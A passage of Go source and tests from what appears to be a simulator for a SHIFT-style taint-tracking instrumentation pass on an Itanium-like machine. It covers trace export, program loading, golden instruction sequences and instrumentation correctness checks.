