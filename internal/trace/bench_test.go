package trace

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/metrics"
)

// benchProg is the same ALU/load/store/branch mix as the interpreter's
// headline BenchmarkStepThroughput, so the three variants below read as
// a direct overhead comparison: no hook (the default fast path), hook
// attached, hook attached through MultiHook (the oracle+trace shape).
func benchProg(b *testing.B) *isa.Program {
	b.Helper()
	p, err := asm.Assemble(`
	movl r10 = 2305843009213693952   ; region-1 scratch base
	movl r1 = 1000
	movl r2 = 0
loop:
	add r2 = r2, r1
	xor r3 = r2, r1
	shli r4 = r3, 3
	st8 [r10] = r4
	ld8 r5 = [r10]
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br loop
	mov r32 = r2
	syscall 1
`, asm.Options{})
	if err != nil {
		b.Fatalf("assemble: %v", err)
	}
	return p
}

func benchRun(b *testing.B, p *isa.Program, hook machine.StepHook) {
	b.ReportAllocs()
	b.ResetTimer()
	var retired uint64
	for i := 0; i < b.N; i++ {
		m := mem.New()
		m.MapRegion(0, 0)
		m.MapRegion(1, 0)
		m.MapRegion(2, 0)
		m.Cache = mem.NewCache(16*1024, 64)
		mach := machine.New(p, m)
		mach.OS = hookOS{}
		mach.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
		mach.Hook = hook
		if trap := mach.Run(); trap != nil {
			b.Fatal(trap)
		}
		retired += mach.Retired
	}
	b.StopTimer()
	if b.Elapsed() > 0 {
		b.ReportMetric(float64(retired)/b.Elapsed().Seconds(), "guest-instr/s")
	}
}

// BenchmarkStepThroughputUntraced pins the zero-overhead claim: with no
// hook attached, this must track the interpreter's own
// BenchmarkStepThroughput — the fast path pays one nil check.
func BenchmarkStepThroughputUntraced(b *testing.B) {
	benchRun(b, benchProg(b), nil)
}

// BenchmarkStepThroughputTraced measures the full observability cost:
// tracer plus metrics on every retirement.
func BenchmarkStepThroughputTraced(b *testing.B) {
	h := NewMachineHook(New(0), metrics.NewRegistry())
	benchRun(b, benchProg(b), h)
}

// BenchmarkStepThroughputMultiHooked measures the MultiHook fan-out
// shape a combined oracle+trace run uses (here with the tracer twice —
// the dispatch cost is what's being measured).
func BenchmarkStepThroughputMultiHooked(b *testing.B) {
	h1 := NewMachineHook(New(0), nil)
	h2 := NewMachineHook(nil, metrics.NewRegistry())
	benchRun(b, benchProg(b), machine.MultiHook{h1, h2})
}
