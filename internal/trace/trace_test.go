package trace

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// The ring must keep exactly the most recent capacity events, count the
// overwritten ones, and return the tail oldest-first.
func TestRingWrapAndDropCounter(t *testing.T) {
	tr := New(4)
	for i := 0; i < 10; i++ {
		tr.Emit(Event{Cycle: uint64(i), Kind: KindTagWrite})
	}
	if got := tr.Total(); got != 10 {
		t.Errorf("Total = %d, want 10", got)
	}
	if got := tr.Dropped(); got != 6 {
		t.Errorf("Dropped = %d, want 6", got)
	}
	evs := tr.Events()
	if len(evs) != 4 {
		t.Fatalf("Events returned %d events, want 4", len(evs))
	}
	for i, ev := range evs {
		if want := uint64(6 + i); ev.Cycle != want {
			t.Errorf("event %d has cycle %d, want %d (oldest-first tail)", i, ev.Cycle, want)
		}
	}
}

func TestTailBeforeWrap(t *testing.T) {
	tr := New(8)
	if tr.Dropped() != 0 || len(tr.Events()) != 0 {
		t.Fatal("fresh tracer not empty")
	}
	for i := 0; i < 3; i++ {
		tr.Emit(Event{Cycle: uint64(i)})
	}
	if got := tr.Dropped(); got != 0 {
		t.Errorf("Dropped = %d before the ring filled", got)
	}
	tail := tr.Tail(2)
	if len(tail) != 2 || tail[0].Cycle != 1 || tail[1].Cycle != 2 {
		t.Errorf("Tail(2) = %+v, want cycles [1 2]", tail)
	}
	if all := tr.Tail(100); len(all) != 3 {
		t.Errorf("Tail(100) returned %d events, want all 3", len(all))
	}
}

// A nil tracer is the disabled state: every method is a safe no-op.
func TestNilTracer(t *testing.T) {
	var tr *Tracer
	tr.Emit(Event{Kind: KindTaint})
	if tr.Total() != 0 || tr.Dropped() != 0 || tr.Events() != nil || tr.Tail(5) != nil {
		t.Error("nil tracer leaked state")
	}
}

// JSONL: one parseable object per line, kinds as names, round-trippable.
func TestWriteJSONL(t *testing.T) {
	tr := New(8)
	tr.Emit(Event{Cycle: 7, TID: 1, PC: 42, Kind: KindTaint, Addr: 0x1000, N: 64, Name: "network"})
	tr.Emit(Event{Cycle: 9, Kind: KindViolation, Name: "H2"})
	var buf bytes.Buffer
	if err := tr.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	var got []Event
	sc := bufio.NewScanner(&buf)
	for sc.Scan() {
		var ev Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		got = append(got, ev)
	}
	if len(got) != 2 {
		t.Fatalf("decoded %d events, want 2", len(got))
	}
	if got[0] != (Event{Cycle: 7, TID: 1, PC: 42, Kind: KindTaint, Addr: 0x1000, N: 64, Name: "network"}) {
		t.Errorf("round trip mangled event: %+v", got[0])
	}
	if got[1].Kind != KindViolation || got[1].Name != "H2" {
		t.Errorf("second event = %+v", got[1])
	}
}

// The Chrome export must be one JSON object with a traceEvents array
// whose phases follow the slice/syscall/instant mapping.
func TestWriteChromeTrace(t *testing.T) {
	tr := New(16)
	tr.Emit(Event{Cycle: 0, TID: 0, Kind: KindSliceBegin})
	tr.Emit(Event{Cycle: 100, TID: 0, PC: 5, Kind: KindTaint, Name: "network"})
	tr.Emit(Event{Cycle: 400, TID: 0, PC: 9, Kind: KindSyscall, N: 300, Name: "recv"})
	tr.Emit(Event{Cycle: 500, TID: 0, Kind: KindSliceEnd, N: 500})
	var buf bytes.Buffer
	if err := tr.WriteChromeTrace(&buf); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []struct {
			Name string `json:"name"`
			Ph   string `json:"ph"`
			TS   uint64 `json:"ts"`
			Dur  uint64 `json:"dur"`
			TID  int    `json:"tid"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("not a Chrome trace document: %v", err)
	}
	if len(doc.TraceEvents) != 4 {
		t.Fatalf("%d trace events, want 4", len(doc.TraceEvents))
	}
	if doc.TraceEvents[0].Ph != "B" || doc.TraceEvents[0].Name != "slice" {
		t.Errorf("slice begin rendered as %+v", doc.TraceEvents[0])
	}
	if doc.TraceEvents[1].Ph != "i" || !strings.HasPrefix(doc.TraceEvents[1].Name, "taint") {
		t.Errorf("instant rendered as %+v", doc.TraceEvents[1])
	}
	if sc := doc.TraceEvents[2]; sc.Ph != "X" || sc.Dur != 300 || sc.TS != 100 {
		t.Errorf("syscall rendered as %+v (want X span ts=100 dur=300)", sc)
	}
	if doc.TraceEvents[3].Ph != "E" {
		t.Errorf("slice end rendered as %+v", doc.TraceEvents[3])
	}
}

func TestKindStringsRoundTrip(t *testing.T) {
	for k := KindTaint; k <= KindSyscall; k++ {
		b, err := json.Marshal(k)
		if err != nil {
			t.Fatal(err)
		}
		var back Kind
		if err := json.Unmarshal(b, &back); err != nil || back != k {
			t.Errorf("kind %d did not round-trip through %s", k, b)
		}
	}
	var bad Kind
	if err := bad.UnmarshalJSON([]byte(`"no-such-kind"`)); err == nil {
		t.Error("unknown kind name accepted")
	}
}
