package loader

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

func TestLoadBasics(t *testing.T) {
	p, err := asm.Assemble(`
	.data
greet:	.asciz "hello"
	.text
	.entry main
main:
	nop
	syscall 1
`, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	img, err := Load(p)
	if err != nil {
		t.Fatal(err)
	}
	// Regions 0 (tags), 1 (data+heap), 2 (stack) mapped; others not.
	for r := uint64(0); r < 8; r++ {
		want := r <= 2
		if img.Mem.RegionMapped(r) != want {
			t.Errorf("region %d mapped = %v, want %v", r, img.Mem.RegionMapped(r), want)
		}
	}
	// Data image written.
	s, f := img.Mem.ReadCString(p.DataSymbols["greet"], 16)
	if f != nil || s != "hello" {
		t.Errorf("data = %q, %v", s, f)
	}
	// Heap starts past the data, aligned.
	end := p.DataBase + uint64(len(p.Data))
	if img.HeapBase <= end || img.HeapBase%HeapAlign != 0 {
		t.Errorf("heap base %#x (data ends %#x)", img.HeapBase, end)
	}
	// Cache model installed.
	if img.Mem.Cache == nil {
		t.Error("no L1 model installed")
	}
}

func TestNewMachineState(t *testing.T) {
	p, err := asm.Assemble("main:\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	img, err := Load(p)
	if err != nil {
		t.Fatal(err)
	}
	m := img.NewMachine()
	if uint64(m.GR[isa.RegSP]) != img.StackTop {
		t.Errorf("SP = %#x, want %#x", m.GR[isa.RegSP], img.StackTop)
	}
	if uint64(m.GR[isa.RegGP]) != p.DataBase {
		t.Errorf("GP = %#x, want %#x", m.GR[isa.RegGP], p.DataBase)
	}
	if mem.Region(img.StackTop) != 2 {
		t.Errorf("stack not in region 2: %#x", img.StackTop)
	}
	if m.PC != p.Entry {
		t.Errorf("PC = %d, want %d", m.PC, p.Entry)
	}
}

func TestLoadRejectsInvalidProgram(t *testing.T) {
	p := &isa.Program{Text: []isa.Instruction{{Op: isa.OpBr, Target: 99}}}
	if _, err := Load(p); err == nil {
		t.Error("invalid program loaded")
	}
}
