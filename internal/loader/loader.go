// Package loader turns a linked program into a runnable image: it maps
// the address-space regions (tag space in region 0, data+heap in region 1,
// stack in region 2), writes the initial data segment, and builds machines
// with the stack pointer established.
package loader

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
)

// Layout constants.
const (
	// StackTopOff is the initial stack pointer offset inside region 2.
	StackTopOff = 0x1000000 // 16 MiB of stack
	// HeapAlign rounds the heap base up past the data segment.
	HeapAlign = 0x1000
)

// Image is a loaded program ready to execute.
type Image struct {
	Prog     *isa.Program
	Mem      *mem.Memory
	HeapBase uint64 // first sbrk-able address (region 1, above data)
	StackTop uint64
}

// Load maps regions and writes the program's data segment.
func Load(p *isa.Program) (*Image, error) {
	if err := p.Validate(); err != nil {
		return nil, fmt.Errorf("loader: %w", err)
	}
	m := mem.New()
	m.MapRegion(0, 0) // tag space
	m.MapRegion(1, 0) // data + heap
	m.MapRegion(2, 0) // stack
	// L1 data cache model (16 KiB, 64-byte lines) for the miss-penalty
	// accounting behind the paper's §6.4 observation that tag accesses
	// mostly hit.
	m.Cache = mem.NewCache(16*1024, 64)
	if len(p.Data) > 0 {
		if f := m.WriteBytes(p.DataBase, p.Data); f != nil {
			return nil, fmt.Errorf("loader: writing data segment: %w", f)
		}
	}
	end := p.DataBase + uint64(len(p.Data))
	heap := (end + HeapAlign) &^ (HeapAlign - 1)
	return &Image{
		Prog:     p,
		Mem:      m,
		HeapBase: heap,
		StackTop: mem.Addr(2, StackTopOff),
	}, nil
}

// NewMachine builds a machine over the image with SP and GP initialised.
func (img *Image) NewMachine() *machine.Machine {
	mach := machine.New(img.Prog, img.Mem)
	mach.GR[isa.RegSP] = int64(img.StackTop)
	mach.GR[isa.RegGP] = int64(img.Prog.DataBase)
	return mach
}
