package instrument

import (
	"strings"
	"testing"

	"shift/internal/asm"
	"shift/internal/machine"
	"shift/internal/taint"
)

// The golden tests pin the exact instruction sequences the pass emits for
// one load and one store — the repository's equivalent of the paper's
// Figure 5. If a change alters these sequences, the diff below is the
// review surface.

const goldenInput = `
	.data
w: .word8 1
	.text
	.entry main
main:
	movl r1 = w
	movl r2 = 7
	ld8 r3 = [r1]
	st1 [r1] = r2
	syscall 1
`

func goldenApply(t *testing.T, opt Options) string {
	t.Helper()
	p, err := asm.Assemble(goldenInput, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := Apply(p, opt)
	if err != nil {
		t.Fatal(err)
	}
	return out.Disassemble()
}

// normalize strips labels and leading whitespace for order comparison.
func sequence(dis string) []string {
	var out []string
	for _, line := range strings.Split(dis, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasSuffix(line, ":") {
			continue
		}
		out = append(out, line)
	}
	return out
}

func TestGoldenByteLevelLoadAndStore(t *testing.T) {
	got := sequence(goldenApply(t, Options{Gran: taint.Byte}))
	want := []string{
		// NaT-source generation at program entry (Figure 5's "obtain a
		// source register with the NaT-bit").
		"movl r125 = -2305843009213693952", // badAddr (region 7)
		"ld8.s r127 = [r125]",
		"movl r1 = 2305843009213759488", // address of w
		"movl r2 = 7",
		// Instrumented 8-byte load.
		"mov r126 = r1",   // address copy (dest may alias)
		"ld8 r3 = [r126]", // the original load
		"shri r120 = r126, 61",
		"shli r120 = r120, 33",
		"movl r121 = 68719476735", // OffsetMask
		"and r121 = r126, r121",
		"shri r123 = r121, 3",
		"or r120 = r120, r123",
		"ld1 r122 = [r120]", // the tag byte
		"cmpi.ne p8, p9 = r122, 0",
		"(p8) add r3 = r3, r127", // taint the destination
		// Instrumented 1-byte store.
		"tnat p8, p9 = r2",
		"mov r124 = r2", // data copy for the predicated NaT strip
		"(p8) addi r125 = r12, -8",
		"(p8) st8.spill [r125] = r124, 30",
		"(p8) ld8 r124 = [r125]",
		"st1 [r1] = r124", // the original store, cleaned data
		"shri r120 = r1, 61",
		"shli r120 = r120, 33",
		"movl r121 = 68719476735",
		"and r121 = r1, r121",
		"shri r123 = r121, 3",
		"or r120 = r120, r123",
		"ld1 r122 = [r120]", // read-modify-write of the tag byte
		"andi r123 = r121, 7",
		"movl r124 = 1",
		"shl r124 = r124, r123",
		"(p8) or r122 = r122, r124",
		"(p9) andcm r122 = r122, r124",
		"st1 [r120] = r122",
		"syscall 1",
	}
	if len(got) != len(want) {
		t.Fatalf("sequence length %d, want %d:\n%s", len(got), len(want),
			strings.Join(got, "\n"))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("instruction %d:\n got %q\nwant %q", i, got[i], want[i])
		}
	}
}

func TestGoldenWordLevelStoreHasNoRMW(t *testing.T) {
	dis := goldenApply(t, Options{Gran: taint.Word})
	seq := sequence(dis)
	// Word-level store: tag byte written directly (mov/addi + st1), no
	// tag load before the tag store.
	joined := strings.Join(seq, "\n")
	if !strings.Contains(joined, "mov r122 = r0\n(p8) addi r122 = r0, 1\nst1 [r120] = r122") {
		t.Errorf("word-level store tag write not direct:\n%s", joined)
	}
}

func TestGoldenEnhancedSequences(t *testing.T) {
	dis := goldenApply(t, Options{Gran: taint.Byte,
		Feat: machine.Features{SetClrNaT: true, NaTAwareCmp: true}})
	joined := strings.Join(sequence(dis), "\n")
	if !strings.Contains(joined, "(p8) setnat r3") {
		t.Errorf("enhanced load does not use setnat:\n%s", joined)
	}
	if !strings.Contains(joined, "(p8) clrnat r124") {
		t.Errorf("enhanced store does not use clrnat:\n%s", joined)
	}
	if strings.Contains(joined, "st8.spill") {
		t.Errorf("enhanced sequences still spill:\n%s", joined)
	}
}
