package instrument

import "shift/internal/isa"

// cleanTracker is a tiny forward dataflow analysis over straight-line
// code: it tracks which registers provably hold untainted values (derived
// only from immediates) since the last label or call. Compares whose
// operands are all provably clean keep their cheap NaT-sensitive form;
// everything else is relaxed — the conservative direction, matching the
// paper's observation that SHIFT instruments "loads, stores and
// comparison instructions".
type cleanTracker struct {
	clean [isa.NumGR]bool
}

func newCleanTracker() *cleanTracker {
	t := &cleanTracker{}
	t.reset()
	return t
}

// reset forgets everything except r0 (hardwired zero, never NaT).
func (t *cleanTracker) reset() {
	for i := range t.clean {
		t.clean[i] = false
	}
	t.clean[isa.RegZero] = true
}

// compareClean reports whether a compare's register operands are all
// provably clean.
func (t *cleanTracker) compareClean(ins *isa.Instruction) bool {
	if ins.Op == isa.OpCmp {
		return t.clean[ins.Src1] && t.clean[ins.Src2]
	}
	return t.clean[ins.Src1]
}

// step updates facts across one original instruction.
func (t *cleanTracker) step(ins *isa.Instruction) {
	// A predicated write may or may not happen; its destination becomes
	// unknown unless the transfer would keep it clean anyway.
	conservative := ins.Qp != 0

	set := func(r uint8, v bool) {
		if r == isa.RegZero {
			return
		}
		if conservative {
			t.clean[r] = t.clean[r] && v
			return
		}
		t.clean[r] = v
	}

	switch ins.Op {
	case isa.OpMovl:
		set(ins.Dest, true)
	case isa.OpMov:
		set(ins.Dest, t.clean[ins.Src1])
	case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpAndcm, isa.OpOr, isa.OpXor,
		isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem:
		// The self-clearing idioms produce a clean zero (§3.2).
		if ins.Src1 == ins.Src2 && (ins.Op == isa.OpXor || ins.Op == isa.OpSub) {
			set(ins.Dest, true)
			return
		}
		set(ins.Dest, t.clean[ins.Src1] && t.clean[ins.Src2])
	case isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori, isa.OpShli, isa.OpShri, isa.OpSari:
		set(ins.Dest, t.clean[ins.Src1])
	case isa.OpMovFromBr, isa.OpMovFromUnat, isa.OpClrNat:
		set(ins.Dest, true)
	case isa.OpLd, isa.OpLdS, isa.OpLdFill, isa.OpCmpxchg, isa.OpSetNat:
		set(ins.Dest, false)
	case isa.OpBrCall, isa.OpSyscall:
		// The callee (or OS model) may write any register.
		t.reset()
	}
}
