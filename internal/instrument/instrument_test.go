package instrument

import (
	"strings"
	"testing"
	"testing/quick"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/lang"
	"shift/internal/machine"
	"shift/internal/taint"

	"shift/internal/codegen"
)

func compileSource(t *testing.T, src string) *isa.Program {
	t.Helper()
	f, err := lang.Parse("t.mc", src)
	if err != nil {
		t.Fatal(err)
	}
	u, err := lang.Check(f)
	if err != nil {
		t.Fatal(err)
	}
	p, err := codegen.Compile(u)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const sample = `
int g[64];
void main() {
	char buf[32];
	int n = recv(buf, 32);
	int i;
	int s = 0;
	for (i = 0; i < n; i++) {
		g[i] = buf[i];
		s += g[i];
	}
	exit(s > 0 ? 0 : 1);
}
`

func TestApplyGrowsAndValidates(t *testing.T) {
	base := compileSource(t, sample)
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		out, err := Apply(base, Options{Gran: g})
		if err != nil {
			t.Fatalf("%s: %v", g, err)
		}
		if len(out.Text) <= len(base.Text) {
			t.Errorf("%s: no growth: %d -> %d", g, len(base.Text), len(out.Text))
		}
		if err := out.Validate(); err != nil {
			t.Errorf("%s: invalid output: %v", g, err)
		}
	}
}

func TestInputUntouched(t *testing.T) {
	base := compileSource(t, sample)
	before := base.Disassemble()
	if _, err := Apply(base, Options{Gran: taint.Byte}); err != nil {
		t.Fatal(err)
	}
	if base.Disassemble() != before {
		t.Error("Apply mutated its input program")
	}
}

func TestEveryOriginalInstructionSurvives(t *testing.T) {
	base := compileSource(t, sample)
	out, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	// Count originals by opcode: every non-compare original must appear
	// at least as often in the output (compares may be replaced by
	// their relaxed twins at the same count).
	countOps := func(p *isa.Program, orig bool) map[isa.Opcode]int {
		m := map[isa.Opcode]int{}
		for i := range p.Text {
			if !orig || p.Text[i].Class == isa.ClassOrig {
				m[p.Text[i].Op]++
			}
		}
		return m
	}
	in := countOps(base, false)
	outOrig := countOps(out, true)
	for op, n := range in {
		if outOrig[op] < n && op != isa.OpSt { // 8-byte stores become st8.spill
			t.Errorf("op %s: %d originals in, %d out", op.Name(), n, outOrig[op])
		}
	}
}

func TestCostClassesAssigned(t *testing.T) {
	base := compileSource(t, sample)
	out, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	counts := out.CountByClass()
	for _, cls := range []isa.CostClass{
		isa.ClassLoadCompute, isa.ClassLoadTagMem,
		isa.ClassStoreCompute, isa.ClassStoreTagMem,
		isa.ClassRelax, isa.ClassNatGen,
	} {
		if counts[cls] == 0 {
			t.Errorf("no instructions in class %s", cls)
		}
	}
}

func TestABIAccessesSkipped(t *testing.T) {
	base := compileSource(t, `
int f(int a) { return a * 2; }
void main() { exit(f(3) == 6 ? 0 : 1); }
`)
	out, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	// ABI loads/stores must appear verbatim (no tag access directly
	// before/after pattern check: just verify their count is preserved).
	countABI := func(p *isa.Program) int {
		n := 0
		for i := range p.Text {
			if p.Text[i].ABI && p.Text[i].Op.IsMem() {
				n++
			}
		}
		return n
	}
	if countABI(base) != countABI(out) {
		t.Errorf("ABI memory ops changed: %d -> %d", countABI(base), countABI(out))
	}
}

func TestEnhancementsShrinkCode(t *testing.T) {
	base := compileSource(t, sample)
	none, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	setclr, err := Apply(base, Options{Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true}})
	if err != nil {
		t.Fatal(err)
	}
	both, err := Apply(base, Options{Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true, NaTAwareCmp: true}})
	if err != nil {
		t.Fatal(err)
	}
	if !(len(both.Text) < len(setclr.Text) && len(setclr.Text) < len(none.Text)) {
		t.Errorf("sizes not decreasing: none=%d setclr=%d both=%d",
			len(none.Text), len(setclr.Text), len(both.Text))
	}
	// With cmp.na, no spill-based relaxation remains.
	for i := range both.Text {
		if both.Text[i].Class == isa.ClassRelax {
			t.Fatalf("relax code remains with NaT-aware compares: %s", both.Text[i].String())
		}
	}
}

func TestCleanComparesNotRelaxed(t *testing.T) {
	// A compare whose operands come straight from immediates keeps its
	// original form.
	src := `
	movl r1 = 5
	cmpi.eq p6, p7 = r1, 5
	syscall 1
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := Apply(p, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	for i := range out.Text {
		if out.Text[i].Class == isa.ClassRelax {
			t.Errorf("clean compare was relaxed: %s", out.Text[i].String())
		}
	}
}

func TestDirtyComparesRelaxed(t *testing.T) {
	src := `
	.data
w: .word8 1
	.text
	movl r1 = w
	ld8 r2 = [r1]
	cmpi.eq p6, p7 = r2, 5
	syscall 1
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := Apply(p, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	relaxed := 0
	for i := range out.Text {
		if out.Text[i].Class == isa.ClassRelax {
			relaxed++
		}
	}
	if relaxed == 0 {
		t.Error("compare on loaded value was not relaxed")
	}
}

func TestPredicatedMemOpRejected(t *testing.T) {
	p, err := asm.Assemble("main:\n(p6) ld8 r2 = [r1]\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Apply(p, Options{Gran: taint.Byte}); err == nil {
		t.Error("predicated load accepted")
	}
}

func TestBranchTargetsRemapped(t *testing.T) {
	// A raw (unlabelled) branch target must be remapped across inserted
	// code.
	src := `
	.data
w: .word8 1
	.text
main:
	movl r1 = w
	ld8 r2 = [r1]
	br @4
	nop
	syscall 1
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := Apply(p, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	// Find the br and check it lands on the syscall.
	for i := range out.Text {
		if out.Text[i].Op == isa.OpBr {
			tgt := out.Text[i].Target
			if out.Text[tgt].Op != isa.OpSyscall {
				t.Errorf("branch remapped to %s, want syscall", out.Text[tgt].String())
			}
		}
	}
}

func TestNaTPerFunctionInsertsGenerators(t *testing.T) {
	// Every function loads from memory, so each needs the NaT source
	// live (a loadless function would not consume r127 at all).
	base := compileSource(t, `
int d[8];
int f(int a) { return d[a & 7] + 1; }
int g2(int a) { return d[a & 7] - 1; }
void main() { exit(g2(f(0)) & 0); }
`)
	once, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	per, err := Apply(base, Options{Gran: taint.Byte, NaTPerFunction: true})
	if err != nil {
		t.Fatal(err)
	}
	count := func(p *isa.Program) int {
		n := 0
		for i := range p.Text {
			if p.Text[i].Op == isa.OpLdS && p.Text[i].Dest == isa.RegNaT {
				n++
			}
		}
		return n
	}
	if count(once) != 1 {
		t.Errorf("keep-live mode generated %d NaT sources, want 1", count(once))
	}
	if count(per) < 3 { // __start + at least f, g2, main
		t.Errorf("per-function mode generated %d NaT sources, want >= 3", count(per))
	}
}

func TestDisassemblyMentionsTagSequences(t *testing.T) {
	base := compileSource(t, sample)
	out, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	dis := out.Disassemble()
	for _, want := range []string{"tnat", "ld8.s r127", "st8.spill"} {
		if !strings.Contains(dis, want) {
			t.Errorf("instrumented disassembly lacks %q", want)
		}
	}
}

// TestGuestTranslationMatchesHost is the property promised in
// internal/taint's documentation: the tag-address computation the pass
// emits (shri/shli/and/shri/or over a data address) must agree
// bit-for-bit with the host-side taint.TagAddr for every address and
// both granularities.
func TestGuestTranslationMatchesHost(t *testing.T) {
	// Replicate the emitted sequence in Go.
	guest := func(g taint.Granularity, addr uint64) uint64 {
		rTagV := addr >> 61                 // shri rTag = addr, 61
		rTagV = rTagV << g.RegionFold()     // shli rTag = rTag, fold
		rOffV := addr & uint64(0xFFFFFFFFF) // movl+and (OffsetMask)
		rBitV := rOffV >> g.DropBits()      // shri rBit = rOff, drop
		return rTagV | rBitV                // or rTag = rTag, rBit
	}
	f := func(region uint8, off uint64) bool {
		addr := uint64(region&7)<<61 | off&0xFFFFFFFFF
		for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
			hostTag, _ := g.TagAddr(addr)
			if guest(g, addr) != hostTag {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestSerializedStoresEmitCmpxchg: the serialized mode's byte-level
// stores carry the retry loop; word-level stores stay single writes.
func TestSerializedStoresEmitCmpxchg(t *testing.T) {
	base := compileSource(t, sample)
	count := func(g taint.Granularity) int {
		out, err := Apply(base, Options{Gran: g, SerializedTags: true})
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for i := range out.Text {
			if out.Text[i].Op == isa.OpCmpxchg {
				n++
			}
		}
		return n
	}
	if count(taint.Byte) == 0 {
		t.Error("byte-level serialized stores lack cmpxchg")
	}
	if count(taint.Word) != 0 {
		t.Error("word-level stores need no serialization")
	}
}

// TestOptimizeSavesInstructions: the §6.4 optimizations shrink the
// instrumented program.
func TestOptimizeSavesInstructions(t *testing.T) {
	base := compileSource(t, sample)
	plain, err := Apply(base, Options{Gran: taint.Byte})
	if err != nil {
		t.Fatal(err)
	}
	opt, err := Apply(base, Options{Gran: taint.Byte, Optimize: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(opt.Text) >= len(plain.Text) {
		t.Errorf("optimize did not shrink: %d -> %d", len(plain.Text), len(opt.Text))
	}
}
