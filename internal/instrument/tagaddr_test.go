package instrument

import (
	"testing"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/taint"
)

// runInstrumented executes an instrumented hand-built program until it
// returns (BR0 = HaltPC) and fails the test on any trap.
func runInstrumented(t *testing.T, out *isa.Program, memory *mem.Memory) {
	t.Helper()
	m := machine.New(out, memory)
	m.BR[0] = machine.HaltPC
	// The pass's red-zone NaT spills land just below SP; give it a stack
	// (clear of every probe address) as the loader would.
	m.GR[isa.RegSP] = int64(mem.Addr(6, 0xF000))
	for i := 0; i < 100000 && !m.Halted; i++ {
		if trap := m.Step(); trap != nil {
			t.Fatalf("trap: %v", trap)
		}
	}
	if !m.Halted {
		t.Fatal("program did not halt")
	}
}

// tagMachine maps regions 0..6 (region 7 stays unmapped: the pass
// manufactures its NaT source from a deferred ld.s at badAddr there) and
// returns the memory with a tag space over region 0.
func tagMachine(g taint.Granularity) (*mem.Memory, *taint.Space) {
	memory := mem.New()
	tags := taint.NewSpace(memory, g)
	for r := uint64(1); r <= 6; r++ {
		memory.MapRegion(r, 0)
	}
	return memory, tags
}

// probe is one guest store/load pair: tainted data flows from srcAddr to
// dstAddr purely through the NaT machinery, so the tag bit for dstAddr
// must land exactly where the host-side translation says it does.
func probe(t *testing.T, g taint.Granularity, srcAddr, dstAddr uint64, size uint8) {
	t.Helper()
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(srcAddr)},
		{Op: isa.OpLd, Dest: 2, Src1: 1, Size: size},
		{Op: isa.OpMovl, Dest: 3, Imm: int64(dstAddr)},
		{Op: isa.OpSt, Src1: 3, Src2: 2, Size: size},
		{Op: isa.OpBrRet, B: 0},
	}
	// The entry symbol makes Apply emit the NaT-source prologue, exactly
	// as it does for compiled programs.
	p := &isa.Program{Text: text, Symbols: map[string]int{"main": 0}}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	out, err := Apply(p, Options{Gran: g})
	if err != nil {
		t.Fatal(err)
	}
	memory, tags := tagMachine(g)
	if err := tags.SetRange(srcAddr, uint64(size)); err != nil {
		t.Fatal(err)
	}
	runInstrumented(t, out, memory)

	// Destination: the guest's translated tag write must be visible at
	// exactly the host-computed location.
	got, err := tags.Tainted(dstAddr, uint64(size))
	if err != nil {
		t.Fatal(err)
	}
	if !got {
		tb, bit := g.TagAddr(dstAddr)
		t.Fatalf("gran=%v src=%#x dst=%#x size=%d: taint did not arrive at host tag byte %#x bit %d",
			g, srcAddr, dstAddr, size, tb, bit)
	}
	// Bit-for-bit: no neighbouring unit may have been touched.
	unit := g.UnitBytes()
